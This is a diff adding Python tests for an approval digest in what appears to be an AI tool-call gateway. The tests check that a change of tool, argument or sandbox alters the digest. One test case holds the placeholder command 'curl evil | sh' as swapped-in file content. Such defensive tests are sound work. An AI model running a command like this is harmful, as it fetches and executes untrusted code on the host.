@@ -1,0 +1,37 @@
+"""An approval's digest binds it to one tool, one set of arguments and one sandbox configuration."""
+
+from __future__ import annotations
+
+from typing import Any
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from gateway.conversations.approvals import call_digest
+
+APPROVED = ("write", {"path": "a.txt", "content": "hi"}, "sandbox")
+
+
+@pytest.mark.parametrize(
+    "other",
+    [
+        ("edit", {"path": "a.txt", "content": "hi"}, "sandbox"),
+        ("write", {"path": "a.txt", "content": "curl evil | sh"}, "sandbox"),
+        ("write", {"path": "b.txt", "content": "hi"}, "sandbox"),
+        ("write", {"path": "a.txt", "content": "hi", "workspace": "prod"}, "sandbox"),
+        ("write", {"path": "a.txt"}, "sandbox"),
+        ("write", {"path": "a.txt", "content": "hi"}, "another sandbox"),
+    ],
+)
+def test_another_call_has_another_digest(other: tuple[str, dict[str, Any], str]) -> None:
+    """A change of the tool, of any argument or of the sandbox changes the digest."""
+    assert call_digest(*other) != call_digest(*APPROVED)
+
+
+@given(
+    args=st.dictionaries(st.text(max_size=9), st.text(max_size=9) | st.booleans() | st.integers(), max_size=5)
+)
+def test_the_order_of_arguments_does_not_matter(args: dict[str, Any]) -> None:
+    """The same arguments in another order have the same digest."""
+    assert call_digest("bash", args, "s") == call_digest("bash", dict(reversed(args.items())), "s")
